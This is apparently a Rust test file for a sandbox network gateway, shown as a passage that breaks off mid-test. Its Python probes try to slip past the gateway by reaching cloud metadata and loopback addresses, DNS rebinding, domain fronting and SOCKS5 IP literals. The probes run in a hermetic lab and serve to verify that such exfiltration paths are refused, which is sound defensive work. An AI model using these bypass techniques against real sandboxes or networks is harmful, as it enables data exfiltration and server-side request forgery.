//! Threat 3, sending data out, through the network gateway: `--allow-host` gives the sandbox an
//! HTTP proxy and a SOCKS5 proxy on its own loopback, and no other way out. Every test runs
//! ringfence inside a hermetic test internet (tests/netlab) and checks the far side: the lab's
//! HTTP, TLS and DNS servers record every connection, request, server name and question, so
//! "refused" means that no byte and no name reached them. Every refusal has a positive control
//! in the same test that shows the probe would have got through.
//!
//! The probes run as one python script per sandboxed run (many probes per run keeps the file
//! fast). The script prints `@@name result` lines; [`Run`] collects them with the run's events.
#![cfg(target_os = "linux")]

mod common;
mod netlab;

use common::*;
use netlab::{lab, Lab, Request, Side, RESOLVER};
use serde_json::Value;
use std::collections::BTreeMap;
use std::net::{IpAddr, SocketAddr};
use std::path::Path;
use std::process::Output;

/// Helpers for the python probes. `sys.argv[1]` is the test CA's PEM file, `sys.argv[2]` the
/// test's marker.
const PY_PRELUDE: &str = r#"
import hashlib, os, socket, ssl, subprocess, sys, threading, time, urllib.error, urllib.request
CA, M = sys.argv[1], sys.argv[2]

def out(name, *vals):
    text = ' '.join(str(v) for v in vals).replace('\r', '').replace('\n', ' | ')
    print('@@' + name, text, flush=True)

def curl(name, *args, env=None):
    p = subprocess.run(['curl', '-sS', '-m', '20', *args], capture_output=True, env=env)
    out(name, 'rc=%d' % p.returncode, (p.stdout + p.stderr).decode(errors='replace'))

def fetch(name, url):
    """urllib, which finds the proxy in the environment."""
    ctx = ssl.create_default_context(cafile=CA)
    try:
        with urllib.request.urlopen(url, timeout=10, context=ctx) as r:
            out(name, r.status, r.read().decode())
    except urllib.error.HTTPError as e:
        out(name, e.code, *('%s: %s' % kv for kv in e.headers.items()), e.read().decode())
    except Exception as e:
        out(name, 'ERR', repr(e))

def recv_until(s, done):
    """Reads until done(data), the peer closes, or an error."""
    data = b''
    while not done(data):
        try:
            chunk = s.recv(65536)
        except OSError:
            break
        if not chunk:
            break
        data += chunk
    return data

def recv_head(s):
    return recv_until(s, lambda data: b'\r\n\r\n' in data)

def recv_all(s):
    return recv_until(s, lambda data: False)

def status(head):
    try:
        return int(head.split(b' ', 2)[1])
    except Exception:
        return None

def proxy(port=3128, timeout=10):
    return socket.create_connection(('127.0.0.1', port), timeout=timeout)

def connect(target):
    """CONNECT through the HTTP proxy: the socket and the status."""
    s = proxy()
    s.sendall(b'CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n' % (target.encode(), target.encode()))
    return s, status(recv_head(s))

def recv_exact(s, n):
    data = b''
    while len(data) < n:
        chunk = s.recv(n - len(data))
        if not chunk:
            raise EOFError('closed after %d bytes' % len(data))
        data += chunk
    return data

def socks(host, port, cmd=1):
    """A SOCKS5 request: the socket and the reply code (None when the gateway just closed)."""
    s = proxy(1080)
    try:
        s.sendall(b'\x05\x01\x00')
        if recv_exact(s, 2) != b'\x05\x00':
            return s, None
        try:
            addr = b'\x01' + socket.inet_pton(socket.AF_INET, host)
        except OSError:
            try:
                addr = b'\x04' + socket.inet_pton(socket.AF_INET6, host)
            except OSError:
                addr = b'\x03' + bytes([len(host)]) + host.encode()
        s.sendall(b'\x05' + bytes([cmd]) + b'\x00' + addr + port.to_bytes(2, 'big'))
        rep = recv_exact(s, 4)
        if rep[1] == 0:
            n = {1: 4, 4: 16}.get(rep[3]) or recv_exact(s, 1)[0]
            recv_exact(s, n + 2)
        return s, rep[1]
    except (EOFError, OSError):
        return s, None

def https_get(s, sni, path, host=None):
    """TLS with server name `sni` (None: no SNI, no name check) over a tunnel, then GET path."""
    ctx = ssl.create_default_context(cafile=CA)
    if sni is None:
        ctx.check_hostname = False
    data = b''
    try:
        t = ctx.wrap_socket(s, server_hostname=sni)
        req = 'GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' % (path, host or sni)
        t.sendall(req.encode())
        while True:
            chunk = t.recv(65536)
            if not chunk:
                break
            data += chunk
        return data.decode(errors='replace')
    except Exception as e:
        return (data.decode(errors='replace') + ' ERR ' + repr(e)).strip()
"#;

/// One sandboxed run of a python probe script: its output, `@@name result` lines and events.
struct Run {
    who: Who,
    out: Output,
    results: BTreeMap<String, String>,
    events: Vec<Value>,
}

impl Run {
    /// `ringfence run --events PATH ARGS -- python3 -c PRELUDE+CODE CA MARKER` in the lab.
    fn sandboxed(lab: &Lab, env: &Env, args: &[&str], code: &str, m: &str) -> Run {
        Run::sandboxed_argv(lab, env, args, code, &[m])
    }

    /// `ringfence run --events PATH ARGS -- python3 -c PRELUDE+CODE CA ARGV...` in the lab
    /// (`ARGV` starts with the marker).
    fn sandboxed_argv(lab: &Lab, env: &Env, args: &[&str], code: &str, argv: &[&str]) -> Run {
        Run::sandboxed_over(lab, env, &[], args, code, argv)
    }

    /// [`Run::sandboxed_argv`] with `files` mounted over H's (`(file, path)`: say, another
    /// /etc/resolv.conf) for this run alone.
    fn sandboxed_over(lab: &Lab, env: &Env, files: &[(&Path, &str)], args: &[&str], code: &str, argv: &[&str]) -> Run {
        let events = env.root.join(format!("{}.jsonl", marker("events")));
        let mut all = vec!["--events", path_str(&events)];
        all.extend(args);
        let code = format!("{PY_PRELUDE}\n{code}");
        let mut script_argv = vec![path_str(&lab.ca_pem)];
        script_argv.extend(argv);
        let out = lab.run_py(env, files, &all, &code, &script_argv);
        Run::new(env.who, out, Some(&events))
    }

    /// The same probe script on H without ringfence (the control), as the same identity.
    fn unsandboxed(lab: &Lab, env: &Env, code: &str, m: &str) -> Run {
        Run::unsandboxed_over(lab, env, &[], code, &[m])
    }

    /// [`Run::unsandboxed`] with `files` mounted over H's, and `ARGV` after the CA.
    fn unsandboxed_over(lab: &Lab, env: &Env, files: &[(&Path, &str)], code: &str, argv: &[&str]) -> Run {
        let code = format!("{PY_PRELUDE}\n{code}");
        let mut script_argv = vec![path_str(&lab.ca_pem)];
        script_argv.extend(argv);
        let out = lab.host_py(env, files, &code, &script_argv);
        Run::new(env.who, out, None)
    }

    fn new(who: Who, out: Output, events: Option<&Path>) -> Run {
        let results = stdout(&out)
            .lines()
            .filter_map(|l| l.strip_prefix("@@"))
            .map(|l| l.split_once(' ').map_or((l.to_string(), String::new()), |(k, v)| (k.into(), v.into())))
            .collect();
        let events = events.and_then(|p| std::fs::read_to_string(p).ok()).unwrap_or_default();
        assert_events_match_schema(&events);
        let events = events
            .lines()
            .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("bad event line {l:?}: {e}")))
            .collect();
        let run = Run { who, out, results, events };
        if std::env::var_os("RINGFENCE_TEST_VERBOSE").is_some() {
            eprintln!("{}", run.dump());
        }
        run
    }

    /// Everything about the run, for assertion messages.
    fn dump(&self) -> String {
        // run.start and proc.exec repeat the whole probe script.
        let events: Vec<String> = self
            .events
            .iter()
            .filter(|e| e["type"] != "run.start" && e["type"] != "proc.exec")
            .map(Value::to_string)
            .collect();
        format!(
            "{:?}, exit {:?}\n--- stdout\n{}\n--- stderr\n{}\n--- events\n{}",
            self.who,
            self.out.status.code(),
            stdout(&self.out),
            stderr(&self.out),
            events.join("\n")
        )
    }

    /// The result line `name`; panics when the script did not get that far.
    #[track_caller]
    fn get(&self, name: &str) -> &str {
        self.results.get(name).unwrap_or_else(|| panic!("no result {name:?}:\n{}", self.dump()))
    }

    #[track_caller]
    fn check(&self, cond: bool, what: &str) {
        assert!(cond, "{what}\n{}", self.dump());
    }

    /// Result `name` contains every one of `parts`.
    #[track_caller]
    fn expect(&self, name: &str, parts: &[&str]) {
        let got = self.get(name);
        for p in parts {
            self.check(got.contains(p), &format!("result {name}: {got:?} lacks {p:?}"));
        }
    }

    /// Result `name` contains none of `parts`.
    #[track_caller]
    fn expect_not(&self, name: &str, parts: &[&str]) {
        let got = self.get(name);
        for p in parts {
            self.check(!got.contains(p), &format!("result {name}: {got:?} contains {p:?}"));
        }
    }

    /// Events of `kind` whose fields equal every `(field, value)` pair (numbers compare by
    /// their text).
    fn events_with(&self, kind: &str, fields: &[(&str, &str)]) -> Vec<&Value> {
        self.events
            .iter()
            .filter(|e| e["type"] == kind)
            .filter(|e| {
                fields.iter().all(|(k, v)| match &e[*k] {
                    Value::String(s) => s == v,
                    other => v.parse::<Value>().is_ok_and(|x| x == *other),
                })
            })
            .collect()
    }

    /// The first such event; panics when there is none.
    #[track_caller]
    fn event(&self, kind: &str, fields: &[(&str, &str)]) -> &Value {
        match self.events_with(kind, fields).first() {
            Some(e) => e,
            None => panic!("no {kind} event with {fields:?}\n{}", self.dump()),
        }
    }

    /// A `net.deny` for `host` with `reason`.
    #[track_caller]
    fn denied(&self, host: &str, reason: &str) -> &Value {
        self.event("net.deny", &[("host", host), ("reason", reason)])
    }

    /// Nothing of `name` reached the lab: no HTTP request, no ClientHello, no DNS question.
    #[track_caller]
    fn check_unreached(&self, lab: &Lab, name: &str) {
        self.check(lab.requests_with(name).is_empty(), &format!("the server of {name} saw a request"));
        self.check(lab.hellos_with(name).is_empty(), &format!("the TLS server saw the name {name}"));
        self.check(lab.queries_with(name).is_empty(), &format!("the resolver saw the name {name}"));
    }

    /// The lab's servers saw exactly one HTTP request with `marker`; returns it.
    #[track_caller]
    fn one_request(&self, lab: &Lab, marker: &str) -> Request {
        let mut seen = lab.requests_with(marker);
        self.check(seen.len() == 1, &format!("{marker}: the server saw {seen:?}"));
        seen.remove(0)
    }

    /// The connections accepted in I at each of `ips` are still `before`.
    #[track_caller]
    fn check_no_new_connections(&self, lab: &Lab, ips: &[IpAddr], before: &[usize]) {
        for (a, b) in ips.iter().zip(before) {
            self.check(lab.connections_to(Side::Internet, *a) == *b, &format!("{a} got a connection"));
        }
    }
}

/// The status line and headers of a `curl -i` result: it was refused by the gateway with 403
/// and an `X-Ringfence-Deny` header.
#[track_caller]
fn assert_403(run: &Run, name: &str) {
    let got = run.get(name).to_ascii_lowercase();
    run.check(got.contains("http/1.1 403"), &format!("{name}: not a 403: {got}"));
    run.check(got.contains("x-ringfence-deny:"), &format!("{name}: no X-Ringfence-Deny header: {got}"));
}

/// A marker for names and paths that no other probe's marker contains (it ends in a letter,
/// so a marker is never the prefix of a later one).
fn unique(tag: &str) -> String {
    format!("{}q", marker(tag))
}

/// Runs `test` once for each identity with the lab, a fresh [`Env`] for that identity and a
/// fresh [`unique`] marker made from `tag`. Without the lab (not root) it runs nothing.
fn each_identity(tag: &str, mut test: impl FnMut(&'static Lab, &Env, &str)) {
    let Some(lab) = lab() else { return };
    for who in identities() {
        let env = Env::new(who);
        test(lab, &env, &unique(tag));
    }
}

/// The connections accepted so far in I at each of `ips`.
fn connection_counts(lab: &Lab, ips: &[IpAddr]) -> Vec<usize> {
    ips.iter().map(|a| lab.connections_to(Side::Internet, *a)).collect()
}

/// Control: a plain request from H (without ringfence) to `addr` gets an answer containing
/// `expect`.
#[track_caller]
fn assert_answers_from_host(lab: &Lab, who: Who, addr: &str, m: &str, expect: &str) {
    let body = lab.probe(Side::Host, sock(addr), m).unwrap();
    assert!(body.contains(expect), "{who:?}: control probe of {addr} from H: {body}");
}

fn ip(s: &str) -> IpAddr {
    s.parse().unwrap()
}

fn sock(s: &str) -> SocketAddr {
    s.parse().unwrap()
}

// ---------------------------------------------------------------------------------------------

/// The lab's self-check, without ringfence: in H the system resolver answers from the lab
/// resolver, the HTTP and TLS servers answer (with the test CA), and H has no way out.
#[test]
fn lab_is_hermetic_and_serving() {
    each_identity("lab", |lab, env, m| {
        let who = env.who;
        let ca = lab.ca_pem.display();
        let script = format!(
            "getent hosts x{m}.wild.test; getent hosts nope{m}.test || echo NXDOMAIN
             curl -sS -m 5 http://allowed.test/hello?m={m}-http; echo
             curl -sS -m 5 --cacert {ca} https://y{m}.wild.test/hello?m={m}-https; echo
             ip route show default | grep . && echo HAS-DEFAULT-ROUTE; true"
        );
        let out = lab.host_sh(env, &script);
        let text = both(&out);
        assert!(text.contains(&format!("192.0.2.10      x{m}.wild.test")), "{who:?}: getent:\n{text}");
        assert!(text.contains("NXDOMAIN"), "{who:?}:\n{text}");
        let http = format!("hello from 192.0.2.10 host=allowed.test tls=false path=/hello?m={m}-http");
        assert!(text.contains(&http), "{who:?}:\n{text}");
        assert!(text.contains(&format!("hello from 192.0.2.10 host=y{m}.wild.test tls=true")), "{who:?}:\n{text}");
        assert!(!text.contains("HAS-DEFAULT-ROUTE"), "{who:?}: H has a default route:\n{text}");
        assert_eq!(lab.requests_with(m).len(), 2, "{who:?}:\n{text}");
        assert_eq!(lab.hellos_with(&format!("y{m}")).len(), 1, "{who:?}:\n{text}");
        assert!(!lab.queries_with(&format!("x{m}")).is_empty(), "{who:?}:\n{text}");
    });
}

const PY_ALLOWED_AND_DENIED: &str = r#"
curl('curl-plain', '-i', 'http://allowed.test/hello?m=%s-curl-plain' % M)
curl('curl-tls', '--cacert', CA, 'https://allowed.test/hello?m=%s-curl-tls' % M)
fetch('py-plain', 'http://allowed.test/hello?m=%s-py-plain' % M)
fetch('py-tls', 'https://allowed.test/hello?m=%s-py-tls' % M)
curl('denied-http', '-i', 'http://d%s.wild.test/hello?m=%s-denied' % (M, M))
curl('denied-https', '--cacert', CA, 'https://d%s.wild.test/hello?m=%s-denied' % (M, M))
fetch('py-denied-http', 'http://d%s.wild.test/hello?m=%s-denied' % (M, M))
fetch('py-denied-https', 'https://d%s.wild.test/hello?m=%s-denied' % (M, M))
"#;

/// An allowed host works over HTTP and HTTPS, with curl and with python's urllib through the
/// proxy variables; the server saw each request and the events record the connection with its
/// bytes. A host that isn't allowed gets a 403 with `X-Ringfence-Deny` and an explanation, and
/// neither its server nor the resolver saw anything; allowing it makes the same probe work.
#[test]
fn allowed_host_works_and_other_hosts_get_403() {
    each_identity("allow", |lab, env, m| {
        let denied = format!("d{m}.wild.test");
        let run = Run::sandboxed(lab, env, &["--allow-host", "allowed.test"], PY_ALLOWED_AND_DENIED, m);
        assert_code(&run.out, 0);
        for (name, tls) in [("curl-plain", false), ("curl-tls", true), ("py-plain", false), ("py-tls", true)] {
            run.expect(name, &[&format!("hello from 192.0.2.10 host=allowed.test tls={tls}")]);
            let seen = run.one_request(lab, &format!("{m}-{name}"));
            run.check(seen.tls == tls && seen.local.ip() == ip("192.0.2.10"), &format!("{name}: {seen:?}"));
        }
        run.expect("curl-plain", &["200"]);

        // The refusals, and nothing of them reached the lab.
        assert_403(&run, "denied-http");
        run.expect("denied-http", &[&denied, "--allow-host"]);
        run.expect("denied-https", &["403"]);
        run.check(!run.get("denied-https").contains("rc=0"), "denied-https: curl succeeded");
        run.expect("py-denied-http", &["403"]);
        run.expect("py-denied-https", &["ERR", "403"]);
        run.check_unreached(lab, &denied);

        // The events: the lookup, both kinds of connection with their bytes, and the refusals.
        let dns = run.event("net.dns", &[("name", "allowed.test"), ("resolver", "system")]);
        run.check(dns["answers"].as_array().is_some_and(|a| a.contains(&"192.0.2.10".into())), "net.dns answers");
        run.check(dns["error"].is_null() && dns["duration_ms"].is_u64(), "net.dns fields");
        for (proto, port) in [("http", "80"), ("http-connect", "443")] {
            let addr = format!("192.0.2.10:{port}");
            let fields = [("proto", proto), ("host", "allowed.test"), ("port", port), ("addr", &addr)];
            let ev = run.event("net.connect", &fields);
            run.check(ev["rule"] == "allowed.test", "net.connect rule");
            run.check(ev["bytes_up"].as_u64() > Some(0) && ev["bytes_down"].as_u64() > Some(0), "net.connect bytes");
            run.check(ev["duration_ms"].is_u64(), "net.connect duration");
        }
        let deny = run.event("net.deny", &[("host", &denied), ("port", "80"), ("reason", "not-allowed")]);
        run.check(deny["proto"] == "http" && deny["detail"].is_string(), "net.deny fields");
        run.event("net.deny", &[("host", &denied), ("port", "443"), ("proto", "http-connect")]);
        run.check(run.events_with("net.dns", &[("name", &denied)]).is_empty(), "the denied name was looked up");

        // Control: allowed, the same name works.
        let code = format!("curl('now-allowed', 'http://{denied}/hello?m={m}-control')");
        let control = Run::sandboxed(lab, env, &["--allow-host", "*.wild.test"], &code, m);
        control.expect("now-allowed", &[&format!("hello from 192.0.2.10 host={denied}")]);

        // The refusals were also noted on stderr, one line each.
        let err = stderr(&run.out);
        let notices: Vec<&str> = err.lines().filter(|l| l.contains(&denied)).collect();
        run.check(!notices.is_empty(), "no notice of the refusal on stderr");
        for line in notices {
            run.check(
                line.starts_with("ringfence: network: "),
                &format!("the notice {line:?} is not `ringfence: network: ...`"),
            );
        }
    });
}

const PY_NOTICES: &str = r#"
refused = 0
for i in range(100):
    s = proxy()
    s.sendall(b'GET http://n%d-%s.wild.test/ HTTP/1.1\r\nConnection: close\r\n\r\n' % (i, M.encode()))
    refused += status(recv_head(s)) == 403
out('refused', refused)
"#;

/// Notices of refusals on stderr are capped: a command that tries 100 names that aren't
/// allowed gets a notice for each of the first 32 distinct refusals, then one line saying that
/// the rest are only in the event file, which records every one of them.
#[test]
fn refusal_notices_are_capped() {
    each_identity("notices", |lab, env, m| {
        let run = Run::sandboxed(lab, env, &["--allow-host", "allowed.test"], PY_NOTICES, m);
        let err = stderr(&run.out);
        assert_code(&run.out, 0);
        run.expect("refused", &["100"]);
        let denied: std::collections::BTreeSet<&str> = run
            .events_with("net.deny", &[("reason", "not-allowed")])
            .iter()
            .filter_map(|e| e["host"].as_str())
            .filter(|h| h.contains(m))
            .collect();
        run.check(denied.len() == 100, &format!("{} distinct net.deny events", denied.len()));

        let notices: Vec<&str> = err.lines().filter(|l| l.starts_with("ringfence: network: ")).collect();
        run.check(notices.len() == 32, &format!("{} notices", notices.len()));
        for (i, line) in notices.iter().enumerate() {
            run.check(line.contains(&format!("n{i}-{m}.wild.test")), &format!("notice {i}: {line}"));
        }
        let last = err.lines().find(|l| l.starts_with("ringfence: further refusals")).unwrap_or_default();
        run.check(last.contains("further refusals") && last.contains("--events"), &format!("the last notice: {last}"));
        run.check(!err.contains(&format!("n32-{m}")), "a refusal after the 32nd was noted on stderr");
    });
}

const PY_SOCKS: &str = r#"
curl('socks-hostname', '--socks5-hostname', '127.0.0.1:1080', '--cacert', CA,
     'https://allowed.test/hello?m=%s-socks-hostname' % M)
env = {k: v for k, v in os.environ.items() if k.lower() not in ('http_proxy', 'https_proxy')}
out('all-proxy-var', env.get('ALL_PROXY'))
curl('all-proxy', '--cacert', CA, 'https://allowed.test/hello?m=%s-all-proxy' % M, env=env)
s, code = socks('d%s.wild.test' % M, 443)
out('denied-name', code)
s, code = socks('192.0.2.11', 443)
out('unlisted-ip', code)
s, code = socks('192.0.2.11', 443)
out('unlisted-ip-data', code, https_get(s, None, '/hello?m=%s-unlisted' % M, host='192.0.2.11'))
s, code = socks('192.0.2.10', 443)
out('listed-ip', code, https_get(s, '192.0.2.10', '/hello?m=%s-listed' % M))
s, code = connect('192.0.2.11:443')
out('connect-unlisted-ip', code)
s, code = connect('192.0.2.10:443')
out('connect-listed-ip', code, https_get(s, '192.0.2.10', '/hello?m=%s-connect-listed' % M))
s, code = socks('2001:db8::11', 443)
out('listed-ip6', code, https_get(s, '2001:db8::11', '/hello?m=%s-listed6' % M))
s, code = connect('[2001:db8::11]:443')
out('connect-listed-ip6', code, https_get(s, '2001:db8::11', '/hello?m=%s-connect-listed6' % M))
s, code = socks('2001:db8::11', 80)
out('unlisted-port-ip6', code)
"#;

/// SOCKS5 with a host name works for an allowed host (curl's --socks5-hostname, and through
/// ALL_PROXY alone); a name that isn't allowed gets reply 2 ("not allowed by ruleset"); an IP
/// literal (IPv4 or IPv6, over SOCKS5 and CONNECT) works only when it is listed, and only on
/// the listed port, and an unlisted one reaches nothing.
#[test]
fn socks5_follows_the_same_rules() {
    each_identity("socks", |lab, env, m| {
        let args = ["--allow-host", "allowed.test", "--allow-host", "192.0.2.10", "--allow-host", "[2001:db8::11]:443"];
        let run = Run::sandboxed(lab, env, &args, PY_SOCKS, m);
        assert_code(&run.out, 0);
        run.expect("socks-hostname", &["rc=0", "hello from 192.0.2.10 host=allowed.test tls=true"]);
        run.expect("all-proxy-var", &["socks5h://127.0.0.1:1080"]);
        run.expect("all-proxy", &["rc=0", "hello from 192.0.2.10 host=allowed.test tls=true"]);
        run.check(lab.requests_with(&format!("{m}-all-proxy")).len() == 1, "ALL_PROXY request not seen");
        run.expect("denied-name", &["2"]);
        run.expect("unlisted-ip", &["2"]);
        run.expect_not("unlisted-ip-data", &["hello from"]);
        run.expect("listed-ip", &["0 ", "hello from 192.0.2.10 host=192.0.2.10 tls=true"]);
        run.expect("connect-unlisted-ip", &["403"]);
        run.expect("connect-listed-ip", &["200 ", "hello from 192.0.2.10 host=192.0.2.10 tls=true"]);
        run.expect("listed-ip6", &["0 ", "hello from 2001:db8::11 host=2001:db8::11 tls=true"]);
        run.expect("connect-listed-ip6", &["200 ", "hello from 2001:db8::11 host=2001:db8::11 tls=true"]);
        run.expect("unlisted-port-ip6", &["2"]);

        // By marker: other tests' controls connect to the same address at the same time.
        run.check(lab.requests_with(&format!("{m}-unlisted")).is_empty(), "the unlisted IP got the request");
        run.check(lab.queries_with(&format!("d{m}")).is_empty(), "the resolver saw the denied name");
        run.event("net.connect", &[("proto", "socks5"), ("host", "allowed.test"), ("port", "443")]);
        run.event("net.connect", &[("proto", "socks5"), ("host", "192.0.2.10"), ("addr", "192.0.2.10:443")]);
        run.event("net.deny", &[("proto", "socks5"), ("host", &format!("d{m}.wild.test")), ("reason", "not-allowed")]);
        run.event("net.deny", &[("proto", "socks5"), ("host", "192.0.2.11"), ("reason", "not-allowed")]);

        // Control: the unlisted address answers from H.
        assert_answers_from_host(lab, env.who, "192.0.2.11:80", m, "hello from 192.0.2.11");
    });
}

const PY_DENY: &str = r#"
curl('ok', 'http://ok%s.wild.test/hello?m=%s-ok' % (M, M))
curl('bad-http', '-i', 'http://bad%s.wild.test/hello?m=%s-bad' % (M, M))
curl('bad-https', '--cacert', CA, 'https://bad%s.wild.test/hello?m=%s-bad' % (M, M))
s, code = socks('bad%s.wild.test' % M, 443)
out('bad-socks', code)
curl('apex', '-i', 'http://wild.test/hello?m=%s-apex' % M)
"#;

/// A deny rule beats an allow rule that also matches (over HTTP, CONNECT and SOCKS5), and
/// `*.suffix` matches subdomains only.
#[test]
fn deny_beats_allow() {
    each_identity("deny", |lab, env, m| {
        let bad = format!("bad{m}.wild.test");
        let run = Run::sandboxed(lab, env, &["--allow-host", "*.wild.test", "--deny-host", &bad], PY_DENY, m);
        assert_code(&run.out, 0);
        run.expect("ok", &["rc=0", &format!("hello from 192.0.2.10 host=ok{m}.wild.test")]);
        assert_403(&run, "bad-http");
        run.expect("bad-https", &["403"]);
        run.expect("bad-socks", &["2"]);
        assert_403(&run, "apex");
        run.check_unreached(lab, &bad);
        let ev = run.denied(&bad, "denied");
        run.check(ev["rule"] == bad.as_str(), "net.deny names the deny rule");
        run.event("net.deny", &[("proto", "socks5"), ("host", &bad), ("reason", "denied")]);
        run.denied("wild.test", "not-allowed");
    });
}

/// Names in the lab that resolve to addresses the guard must refuse.
const GUARDED: &[&str] = &[
    "loop.test",
    "loop6.test",
    "self.test",
    "anyip.test",
    "meta.test",
    "meta6.test",
    "lan.test",
    "mapped.test",
    "nat64.test",
];

const PY_GUARD: &str = r#"
for name in sys.argv[3:]:
    curl(name, '-i', 'http://%s/hello?m=%s-%s' % (name, M, name))
    curl(name + '-tls', '--cacert', CA, 'https://%s/hello?m=%s-%s' % (name, M, name))
    s, code = socks(name, 80)
    out(name + '-socks', code)
curl('mixed', '-i', 'http://mixed.test/hello?m=%s-mixed' % M)
for i in range(4):
    curl('rebind-%d' % i, '-i', 'http://r%s.rebind.test/hello?m=%s-rebind' % (M, M))
curl('control', 'http://allowed.test/hello?m=%s-control' % M)
"#;

/// The address guard: allowed names that resolve to H's loopback (v4, v6, IPv4-mapped),
/// H's own address, an address that is no interface's but that H's `local` route delivers to
/// H itself (AnyIP), the metadata address (v4 and v6), a private address or a NAT64 form of
/// loopback are refused over HTTP, CONNECT and SOCKS5, and the listeners at those addresses
/// saw no connection. A name that answers both a good and a loopback address, and one that
/// rebinds to loopback between lookups, never reach loopback. Controls: the listeners answer
/// from H, and `--allow-private 10.0.0.0/8` makes the private one work.
#[test]
fn address_guard_refuses_internal_addresses() {
    let internal_i = [ip("169.254.169.254"), ip("10.0.0.1"), ip("fd00:ec2::254")];
    each_identity("guard", |lab, env, m| {
        let host_before = lab.connections_on(Side::Host);
        let i_before = connection_counts(lab, &internal_i);
        let mut args =
            vec!["--allow-host", "allowed.test", "--allow-host", "mixed.test", "--allow-host", "*.rebind.test"];
        // The lab's server gives rebinding names a TTL of 0, which only a DNS server (not
        // getaddrinfo) reports: every lookup then sees the next answer.
        args.extend(["--resolver", "192.0.2.53"]);
        for name in GUARDED {
            args.extend(["--allow-host", name]);
        }
        let mut argv = vec![m];
        argv.extend(GUARDED);
        let run = Run::sandboxed_argv(lab, env, &args, PY_GUARD, &argv);
        assert_code(&run.out, 0);

        run.expect("control", &["rc=0", "hello from 192.0.2.10"]);
        for name in GUARDED {
            assert_403(&run, name);
            run.expect(&format!("{name}-tls"), &["403"]);
            run.expect(&format!("{name}-socks"), &["2"]);
            let ev = run.denied(name, "address-guard");
            run.check(ev["addr"].is_string(), &format!("{name}: net.deny without the refused address"));
        }
        let anyip = run.denied("anyip.test", "address-guard");
        let detail = anyip["detail"].as_str().unwrap_or("");
        run.check(detail.contains("own address"), &format!("anyip.test: not refused as H's own address: {detail}"));
        let leaks = [
            "hello from 127.",
            "hello from ::1",
            "hello from 198.51.100.1",
            "hello from 203.0.113.200",
            "hello from 169.254",
            "hello from 10.",
        ];
        for name in run.results.keys() {
            run.expect_not(name, &leaks);
            run.expect_not(name, &["hello from fd00"]);
        }
        let rebinds: Vec<String> = (0..4).map(|i| run.get(&format!("rebind-{i}")).to_string()).collect();
        for (i, got) in rebinds.iter().enumerate() {
            run.check(got.contains("hello from 192.0.2.10") || got.contains(" 403 "), &format!("rebind-{i}: {got}"));
        }
        // Both answers were seen: the name really rebound to loopback between lookups.
        run.check(
            rebinds.iter().any(|g| g.contains(" 403 ")) && rebinds.iter().any(|g| g.contains("hello from 192.0.2.10")),
            &format!("the rebinding name did not alternate: {rebinds:?}"),
        );
        run.check(
            lab.connections_on(Side::Host) == host_before,
            "a listener on H (loopback or own address) got a connection",
        );
        run.check_no_new_connections(lab, &internal_i, &i_before);

        // Controls: every refused listener (on H: loopback, its own address and the address of
        // its local route; in I: the metadata and private addresses) answers a direct probe.
        for addr in [
            "127.0.0.1:80",
            "[::1]:80",
            "198.51.100.1:80",
            "203.0.113.200:80",
            "169.254.169.254:80",
            "10.0.0.1:80",
            "[fd00:ec2::254]:80",
        ] {
            let ip = sock(addr).ip();
            assert_answers_from_host(lab, env.who, addr, m, &format!("hello from {ip}"));
        }
        let code = format!("curl('lan', 'http://lan.test/hello?m={m}-lan')");
        let args = ["--allow-host", "lan.test", "--allow-private", "10.0.0.0/8"];
        let private = Run::sandboxed(lab, env, &args, &code, m);
        private.expect("lan", &["rc=0", "hello from 10.0.0.1 host=lan.test"]);
        private.event("net.connect", &[("host", "lan.test"), ("addr", "10.0.0.1:80")]);
    });
}

const PY_FRONTING: &str = r#"
s, code = connect('allowed.test:443')
out('sni-allowed-other', code, https_get(s, 'f%s.wild.test' % M, '/hello?m=%s-front' % M))
s, code = connect('allowed.test:443')
out('sni-not-allowed', code, https_get(s, 'h%s.wild.test' % M, '/hello?m=%s-front' % M))
s, code = connect('g%s.wild.test:443' % M)
out('sni-same', code, https_get(s, 'g%s.wild.test' % M, '/hello?m=%s-same' % M))
s, code = connect('G%s.Wild.Test:443' % M.upper())
out('sni-case', code, https_get(s, 'g%s.wild.test' % M, '/hello?m=%s-case' % M))
s, code = connect('allowed.test:443')
s.sendall(b'GET /hello?m=%s-plain HTTP/1.1\r\nHost: allowed.test\r\n\r\n' % M.encode())
out('plaintext', code, repr(recv_all(s)))
s, code = connect('allowed.test:443')
out('no-sni', code, https_get(s, None, '/hello?m=%s-nosni' % M, host='allowed.test'))
s, code = socks('allowed.test', 443)
out('socks-sni-other', code, https_get(s, 's%s.wild.test' % M, '/hello?m=%s-front' % M))
s, code = socks('allowed.test', 443)
s.sendall(b'GET /hello?m=%s-socksplain HTTP/1.1\r\nHost: allowed.test\r\n\r\n' % M.encode())
out('socks-plaintext', code, repr(recv_all(s)))
for name, host in (('host-other', 'other.test'), ('host-port', 'allowed.test:8080'), ('host-same', 'allowed.test')):
    s = proxy()
    s.sendall(b'GET http://allowed.test/hello?m=%s-%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n'
              % (M.encode(), name.encode(), host.encode()))
    out(name, repr(recv_all(s)))
"#;

/// Domain fronting: after CONNECT to an allowed host, a ClientHello naming another host
/// (allowed or not), none, or plaintext instead of TLS is refused and nothing reaches the TLS
/// server; the same over SOCKS5. An absolute-form request whose Host header names another host
/// (or port) is refused. Controls: a matching name (in any case) and a matching Host work.
#[test]
fn fronting_is_refused() {
    each_identity("front", |lab, env, m| {
        let (f, g, h, s) = (format!("f{m}"), format!("g{m}"), format!("h{m}"), format!("s{m}"));
        let allow = [format!("{f}.wild.test"), format!("{g}.wild.test"), "allowed.test".into()];
        let args: Vec<&str> = allow.iter().flat_map(|a| ["--allow-host", a.as_str()]).collect();
        let run = Run::sandboxed(lab, env, &args, PY_FRONTING, m);
        assert_code(&run.out, 0);

        run.expect("sni-same", &["200 ", &format!("hello from 192.0.2.10 host={g}.wild.test tls=true")]);
        run.expect("sni-case", &["200 ", "hello from 192.0.2.10", "tls=true"]);
        run.check(!lab.hellos_with(&g).is_empty(), "control: the TLS server did not see the matching name");
        run.expect("host-same", &["200 OK", "hello from 192.0.2.10 host=allowed.test"]);

        for name in ["sni-allowed-other", "sni-not-allowed", "no-sni", "socks-sni-other"] {
            run.expect(name, &["ERR"]);
            run.expect_not(name, &["hello from"]);
        }
        run.expect("plaintext", &["200 b''"]);
